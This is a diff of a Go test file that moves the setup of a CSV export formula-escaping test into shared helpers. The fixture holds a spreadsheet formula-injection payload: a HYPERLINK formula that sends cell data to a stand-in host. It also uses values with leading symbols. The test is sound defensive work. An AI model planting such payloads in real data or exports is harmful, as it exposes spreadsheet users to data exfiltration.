@@ -4,17 +4,13 @@ import (
 	"bytes"
 	"context"
 	"encoding/csv"
-	"io"
-	"log/slog"
 	"net/http/httptest"
-	"path/filepath"
 	"strings"
 	"testing"
 	"time"
 
-	"halld/daemon/config"
-	"halld/daemon/engine"
 	"halld/daemon/hall"
+	"halld/daemon/internal/testhall"
 	"halld/daemon/journal"
 )
 
@@ -53,15 +49,7 @@ services:
 // A comment, reason, window or staff name that starts with = + - @ comes out
 // of the CSV export as text, not as a live formula; the JSON export is as typed.
 func TestRatingsCSVExportEscapesFormulas(t *testing.T) {
-	cfg, err := config.Parse("t.yaml", []byte(ratingsYAML))
-	if err != nil {
-		t.Fatal(err)
-	}
-	j, err := journal.Open(filepath.Join(t.TempDir(), "journal.db"), journal.Options{})
-	if err != nil {
-		t.Fatal(err)
-	}
-	defer j.Close()
+	cfg, j := testhall.Config(t, ratingsYAML), testhall.Journal(t)
 	now := time.Now()
 	ev := &hall.RatingSubmitted{TicketID: "t1", Number: "A001", Visit: 1, Window: "@window", Staff: "-staff",
 		Service: "+svc", Level: "不满意", Reasons: nil, Comment: `=HYPERLINK("http://x.example/?"&A1,"点我")`, Channel: "api", Bad: true}
@@ -73,13 +61,7 @@ func TestRatingsCSVExportEscapesFormulas(t *testing.T) {
 	if err := j.Append(context.Background(), []journal.Record{{Seq: 1, ID: env.ID, Type: env.Type, TS: now.UTC().Truncate(time.Millisecond), Body: body}}); err != nil {
 		t.Fatal(err)
 	}
-	eng, err := engine.New(context.Background(), cfg, j, slog.New(slog.NewTextHandler(io.Discard, nil)), nil)
-	if err != nil {
-		t.Fatal(err)
-	}
-	ctx, cancel := context.WithCancel(context.Background())
-	go eng.Run(ctx)
-	defer func() { cancel(); <-eng.Done() }()
+	eng := testhall.Start(t, cfg, j).Engine // replays the rating
 	s := &Server{d: Deps{Config: cfg, Engine: eng, Journal: j}}
 
 	rec := httptest.NewRecorder()
